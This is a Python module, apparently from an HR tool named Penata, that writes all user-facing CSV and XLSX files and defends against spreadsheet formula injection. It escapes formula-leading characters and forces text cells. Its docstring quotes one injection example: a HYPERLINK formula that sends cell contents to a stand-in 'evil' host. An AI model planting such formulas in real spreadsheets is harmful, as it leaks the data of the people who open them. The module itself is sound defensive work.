"""The one writer for every spreadsheet and CSV Penata produces.

Names, titles, units, education fields and committee reasons come from the user's
files. Excel, LibreOffice and Google Sheets run a cell that starts with ``=`` (and,
in CSV, ``+``, ``-``, ``@``, tab or carriage return) as a formula, so a name like
``=HYPERLINK("http://evil/?"&A1,"klik")`` in ``employees.csv`` would become a live
formula in the SK annex the committee opens and signs (OWASP "CSV Injection",
CWE-1236). Every XLSX and CSV file a person may open goes through this module:

- :func:`xlsx_bytes` writes text cells with the explicit string type (never a
  formula, whatever the text starts with) and the text number format ``@`` (so an
  edit in Excel keeps them text); numbers stay numeric cells. Characters XLSX
  cannot hold (control characters other than tab, LF, CR) become U+FFFD instead of
  failing the whole file, and a CR becomes LF (see :func:`xlsx_text`).
- :func:`csv_text` prefixes a text field that starts with ``=``, ``+``, ``-``,
  ``@``, tab or carriage return (or LF, or a full-width ``＝＋－＠``) with one ``'``
  (OWASP's recommendation; the
  spreadsheet then shows it as text). Numbers are written as numbers, unprefixed.

Identifiers (NIPs, position ids) must be passed as ``str``: they then stay text
with their leading zeros (never a float like ``1.98506E+17``).

Adding a producer (import report, training or succession tables, workspace
downloads, audit exports): build the rows and call :func:`csv_text` or
:func:`xlsx_bytes`; write the result with the caller's atomic writer. Never use
``csv.writer``, ``DataFrame.to_csv``/``to_excel`` or ``openpyxl.Workbook`` directly
for a file a person downloads or opens. (Files Penata writes only to read back
itself, such as the API's stored input tables, keep the exact text and are not
outputs; they must not be offered for download as they are.)
"""

from __future__ import annotations

import csv
import io
import numbers
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any

#: First characters a spreadsheet may read as the start of a formula or command: OWASP's
#: six, plus LF and the full-width forms of = + - @, which some locales' spreadsheet
#: programs turn into the ASCII ones on entry.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# Characters an XLSX (XML 1.0) cell cannot contain; openpyxl raises on them.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_MAX_COLUMN_WIDTH = 60


def is_number(value: Any) -> bool:
    """True for an int or float (numpy included), False for bool and text."""
    kind = type(value)
    if kind is str:  # most cells; the abstract-class check below costs a call each
        return False
    if kind is int or kind is float:
        return True
    return isinstance(value, numbers.Real) and not isinstance(value, bool)


def csv_field(value: Any) -> Any:
    """One CSV field: numbers unchanged, ``None`` empty, text guarded.

    Text starting with one of :data:`FORMULA_PREFIXES` gets a leading ``'``, so
    ``=1+1`` is written as ``'=1+1`` and ``-5`` (text) as ``'-5``.
    """
    kind = type(value)  # the common exact types first (city-scale files: ~10^5 fields)
    if kind is str:
        return "'" + value if value.startswith(FORMULA_PREFIXES) else value
    if kind is int or kind is float:
        return value
    if value is None:
        return ""
    if is_number(value):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]],
             line_end: str = "\n") -> str:
    """A CSV document (comma, minimal quoting, ``line_end`` after each row: ``\\n``, or
    ``\\r\\n`` for a file meant for Excel) with every field passed through
    :func:`csv_field`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=line_end)
    for row in [header, *rows]:
        fields = [csv_field(v) for v in row]
        if line_end == "\n" and any(isinstance(f, str) and "\r" in f for f in fields):
            # With "\n" line ends Python's csv leaves a field holding a CR unquoted and
            # every reader then splits the row there: write this row with CRLF line
            # ends, which quotes that field, and keep the document's "\n".
            line = io.StringIO()
            csv.writer(line, lineterminator="\r\n").writerow(fields)
            buffer.write(line.getvalue()[:-2] + "\n")
        else:
            writer.writerow(fields)
    return buffer.getvalue()


def xlsx_text(value: Any) -> str:
    """The text an XLSX cell will hold: ``value`` as ``str``, line ends as ``\\n`` (XML
    reads a bare CR back as LF anyway) and the characters XLSX cannot store replaced
    by U+FFFD."""
    text = str(value).replace("\r\n", "\n").replace("\r", "\n")
    return _XLSX_ILLEGAL.sub("\ufffd", text)


@dataclass(frozen=True)
class Sheet:
    """One worksheet, top to bottom: ``preamble`` rows (the first in a larger bold
    font: the sheet's heading), the bold header row (frozen, repeated on every printed
    page), the data rows, then ``footer`` rows.

    Cells are ``str`` (text), ``int``/``float`` (numbers) or ``None`` (empty).
    ``widths`` fixes the column widths (else each column fits its text, at most 60);
    ``wrap`` wraps the data rows' text, aligned to the top.
    """

    title: str
    header: Sequence[str]
    rows: Sequence[Sequence[Any]]
    footer: Sequence[Sequence[Any]] = field(default_factory=tuple)
    preamble: Sequence[Sequence[Any]] = field(default_factory=tuple)
    widths: Sequence[float] | None = None
    wrap: bool = False


def _cell(value: Any) -> Any:
    """What a cell holds: ``None`` (empty), a number, or text (:func:`xlsx_text`)."""
    if value is None or value == "":
        return None
    return value if is_number(value) else xlsx_text(value)


def _width(value: Any) -> int:
    return len(str(value)) if value not in (None, "") else 0


def _worksheet(sheet: Sheet) -> Any:
    from solver.spreadsheetml import BOLD, HEADING, Row, Worksheet

    top = len(sheet.preamble) + 1
    rows = [Row(r, [_cell(v) for v in row], HEADING if r == 1 else None)
            for r, row in enumerate(sheet.preamble, start=1)]
    rows.append(Row(top, [_cell(v) for v in sheet.header], BOLD))
    rows += [Row(r, [_cell(v) for v in row], wrap=sheet.wrap)
             for r, row in enumerate(sheet.rows, start=top + 1)]
    rows += [Row(r, [_cell(v) for v in row])
             for r, row in enumerate(sheet.footer, start=top + 1 + len(sheet.rows))]
    if sheet.widths is not None:
        widths = [float(w) for w in sheet.widths[:len(sheet.header)]]
    else:
        widths = [min(_MAX_COLUMN_WIDTH, 2 + max(
            [_width(head)] + [_width(row[c]) for row in sheet.rows if len(row) > c]))
            for c, head in enumerate(sheet.header)]
    return Worksheet(xlsx_text(sheet.title), rows, widths, top)


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook with one worksheet per :class:`Sheet`, every text cell a
    string (never a formula), every number a number (written by
    :mod:`solver.spreadsheetml`)."""
    from solver.spreadsheetml import workbook_bytes

    return workbook_bytes([_worksheet(sheet) for sheet in sheets])
